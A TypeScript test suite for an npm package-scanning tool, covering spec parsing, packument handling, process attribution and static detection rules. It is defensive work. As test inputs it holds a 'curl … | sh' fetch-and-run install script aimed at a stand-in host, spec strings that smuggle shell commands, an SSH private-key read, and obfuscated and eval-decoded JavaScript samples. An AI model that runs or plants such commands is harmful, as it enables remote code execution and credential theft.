import assert from 'node:assert/strict';
import { test } from 'node:test';
import { attributeNpmProcesses, npmPackageOfPath } from '../attribution/attribute-npm-processes.ts';
import { isNpmOwnFile } from '../behaviour/npm-own.ts';
import { NPM_STATIC_RULES, scanNpmStaticSignals } from '../detect/rules/npm-rules.ts';
import { PkghuntError } from '../errors.ts';
import { packumentPath, parseNpmPackageSpec } from './npm-package-spec.ts';
import {
  installScripts,
  parsePackument,
  rewriteTarballs,
  selectNpmVersion,
  tarballFilename,
} from './packument.ts';

test('npm specs: names, scopes, versions, dist-tags and local tarballs', () => {
  assert.deepEqual(parseNpmPackageSpec('npm:left-pad'), {
    kind: 'registry',
    name: 'left-pad',
    version: null,
  });
  assert.deepEqual(parseNpmPackageSpec('npm:left-pad@1.3.0'), {
    kind: 'registry',
    name: 'left-pad',
    version: '1.3.0',
  });
  assert.deepEqual(parseNpmPackageSpec('npm:@types/node@20.1.0-rc.1'), {
    kind: 'registry',
    name: '@types/node',
    version: '20.1.0-rc.1',
  });
  assert.deepEqual(parseNpmPackageSpec('npm:react@next'), {
    kind: 'registry',
    name: 'react',
    version: 'next',
  });
  assert.deepEqual(parseNpmPackageSpec('npm:./x-1.0.0.tgz'), { kind: 'local', path: './x-1.0.0.tgz' });
  for (const bad of [
    'npm:',
    'npm:_x',
    'npm:x@1.0',
    'npm:a b',
    'npm:x@^1.0.0',
    'npm:x@>=1',
    'npm:git+https://h/x',
    'npm:x;rm',
    'npm:./a;b.tgz',
    'left-pad',
  ]) {
    assert.throws(
      () => parseNpmPackageSpec(bad),
      (e: unknown) => e instanceof PkghuntError && e.code === 'INVALID_PACKAGE_SPEC',
      bad,
    );
  }
  assert.equal(packumentPath('@scope/name'), '@scope%2fname');
});

const doc = parsePackument(
  {
    name: 'p',
    'dist-tags': { latest: '1.1.0', next: '2.0.0-beta.1' },
    versions: {
      '1.0.0': { name: 'p', version: '1.0.0', dist: { tarball: 'https://reg.invalid/p/-/p-1.0.0.tgz' } },
      '1.1.0': {
        name: 'p',
        version: '1.1.0',
        dist: { tarball: '-/p-1.1.0.tgz' },
        scripts: { postinstall: 'node x.js', test: 'jest' },
      },
      '2.0.0-beta.1': { name: 'p', version: '2.0.0-beta.1', dist: { tarball: '-/p-2.0.0-beta.1.tgz' } },
    },
  },
  'test',
);

test('packuments: latest, exact versions, dist-tags, missing versions, rewritten tarballs', () => {
  assert.equal(selectNpmVersion(doc, null).version, '1.1.0');
  assert.equal(selectNpmVersion(doc, '1.0.0').version, '1.0.0');
  assert.equal(selectNpmVersion(doc, 'next').version, '2.0.0-beta.1');
  assert.throws(
    () => selectNpmVersion(doc, '9.9.9'),
    (e: unknown) => e instanceof PkghuntError && e.code === 'PACKAGE_NOT_FOUND',
  );
  assert.throws(
    () => parsePackument({ name: 'p' }, 'x'),
    (e: unknown) => e instanceof PkghuntError && e.code === 'INDEX_BAD_RESPONSE',
  );
  const rewritten = rewriteTarballs(doc, (url) => `http://127.0.0.1:1/-/files/${tarballFilename(url)}`);
  assert.equal(rewritten.versions['1.0.0']?.dist.tarball, 'http://127.0.0.1:1/-/files/p-1.0.0.tgz');
  assert.deepEqual(installScripts(doc.versions['1.1.0'] ?? {}), { postinstall: 'node x.js' });
});

test('the package of a lifecycle script is the deepest node_modules folder of its cwd', () => {
  assert.equal(npmPackageOfPath('/opt/venv/node_modules/a'), 'a');
  assert.equal(npmPackageOfPath('/opt/venv/node_modules/a/node_modules/@s/b/build'), '@s/b');
  assert.equal(npmPackageOfPath('/opt/venv'), null);
  assert.equal(npmPackageOfPath('/tmp/node_modules/a'), null);
});

test('npm processes: the installer, lifecycle scripts of the package and of a dependency, import probes', () => {
  const p = (pid: number, ppid: number | null, argv: string[], cwd: string) => ({
    pid,
    ppid,
    argv,
    cwd,
    start: pid,
  });
  const install = attributeNpmProcesses(
    [
      p(1, null, ['/usr/bin/python3', '/pkghunt/runner.py'], '/builds/app'),
      p(2, 1, ['/usr/bin/node', '/usr/bin/npm', 'install', 'x@1.0.0'], '/opt/venv'),
      p(3, 2, ['sh', '-c', 'node a.js'], '/opt/venv/node_modules/dep'),
      p(4, 3, ['node', 'a.js'], '/opt/venv/node_modules/dep'),
      p(5, 2, ['sh', '-c', 'node b.js'], '/opt/venv/node_modules/x'),
      p(6, 2, ['/usr/bin/git', '--version'], '/opt/venv'),
    ],
    { phase: 'install', rootPid: 1, target: 'x' },
  );
  assert.equal(install.get(1)?.kind, 'pip');
  assert.deepEqual(install.get(2), { kind: 'pip', distribution: null, method: 'npm' });
  assert.deepEqual(install.get(3), { kind: 'dependency', distribution: 'dep', method: 'script-cwd' });
  assert.deepEqual(install.get(4), { kind: 'dependency', distribution: 'dep', method: 'process-tree' });
  assert.equal(install.get(5)?.kind, 'package');
  assert.equal(install.get(6)?.kind, 'unknown');
  const imported = attributeNpmProcesses(
    [
      p(1, null, ['python3', '/pkghunt/runner.py'], '/'),
      p(2, 1, ['/usr/bin/node', '-e', 'require("x")'], '/opt/venv'),
      p(3, 2, ['sh', '-c', 'id'], '/opt/venv'),
    ],
    { phase: 'import', rootPid: 1, target: 'x' },
  );
  assert.deepEqual(imported.get(3), { kind: 'package', distribution: 'x', method: 'process-tree' });
});

test("npm's own files: its config reads and the install area, not a write to ~/.npmrc", () => {
  assert.ok(isNpmOwnFile({ path: '/home/builder/.npmrc', ops: ['read'] }));
  assert.ok(isNpmOwnFile({ path: '/opt/venv/.npm-cache/_logs/x.log', ops: ['write'] }));
  assert.ok(!isNpmOwnFile({ path: '/home/builder/.npmrc', ops: ['write'] }));
  assert.ok(!isNpmOwnFile({ path: '/home/builder/.ssh/id_rsa', ops: ['read'] }));
});

test('static npm signals: install scripts by what they do, obfuscation, eval of decoded data', () => {
  const manifest = (scripts: Record<string, string>) => ({
    path: 'package/package.json',
    text: JSON.stringify({ name: 'x', scripts }, null, 2),
  });
  const rule = (id: string) => NPM_STATIC_RULES.find((r) => r.id === id);
  assert.ok(rule('npm.static.install-script'));
  const severityOf = (files: { path: string; text: string }[], id: string) =>
    scanNpmStaticSignals(files).find((f) => f.rule === id)?.severity ?? null;
  assert.equal(severityOf([manifest({ install: 'node-gyp rebuild' })], 'npm.static.install-script'), 'low');
  assert.equal(
    severityOf([manifest({ preinstall: 'curl -s http://h.example/i | sh' })], 'npm.static.install-script'),
    'high',
  );
  assert.equal(severityOf([manifest({ test: 'curl http://x | sh' })], 'npm.static.install-script'), null);
  const obfuscated = `var _0x1a2b=['\\x68'],_0x3c4d=1,_0x5e6f=2,_0x7a8b=3,_0x9c0d=4;function _0xabcd(){}`;
  assert.equal(
    severityOf([{ path: 'package/index.js', text: obfuscated }], 'npm.static.obfuscated-js'),
    'medium',
  );
  assert.equal(
    severityOf(
      [{ path: 'package/index.js', text: `s = "${'\\x41'.repeat(50)}";` }],
      'npm.static.obfuscated-js',
    ),
    'medium',
  );
  assert.equal(
    severityOf(
      [{ path: 'package/index.js', text: 'const _0x1 = 1; module.exports = _0x1;' }],
      'npm.static.obfuscated-js',
    ),
    null,
  );
  // Escapes that spell ASCII hide text; Unicode range tables and binary tables written as
  // escapes (what compilers and bundlers emit, e.g. sass.dart.js, prettier) are data.
  assert.equal(
    severityOf(
      [{ path: 'package/index.js', text: `s = "${'\\u0072\\u0065'.repeat(20)}";` }],
      'npm.static.obfuscated-js',
    ),
    'medium',
  );
  const unicodeTable = Array.from({ length: 40 }, (_, i) => `\\u${(0x2690 + i).toString(16)}`).join('');
  const binaryTable = `\\xe1${'\\x01'.repeat(60)}`;
  for (const text of [`re = /[${unicodeTable}]/;`, `t = "${binaryTable}";`])
    assert.equal(severityOf([{ path: 'package/index.js', text }], 'npm.static.obfuscated-js'), null, text);
  // A long base64 literal is an encoded blob, unless it is an inlined WebAssembly module.
  const base64 = (prefix: string) => `const b = "${prefix}${'QUJD'.repeat(200)}";`;
  assert.equal(
    severityOf([{ path: 'package/index.js', text: base64('ZXZhbC') }], 'npm.static.obfuscated-js'),
    'medium',
  );
  assert.equal(
    severityOf([{ path: 'package/index.js', text: base64('AGFzbQEAAAAB') }], 'npm.static.obfuscated-js'),
    null,
  );
  const packed = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())";
  assert.equal(severityOf([{ path: 'package/lib/a.js', text: packed }], 'npm.static.eval-decoded'), 'high');
  assert.equal(
    severityOf([{ path: 'package/lib/a.js', text: 'eval(code)' }], 'npm.static.eval-decoded'),
    null,
  );
});
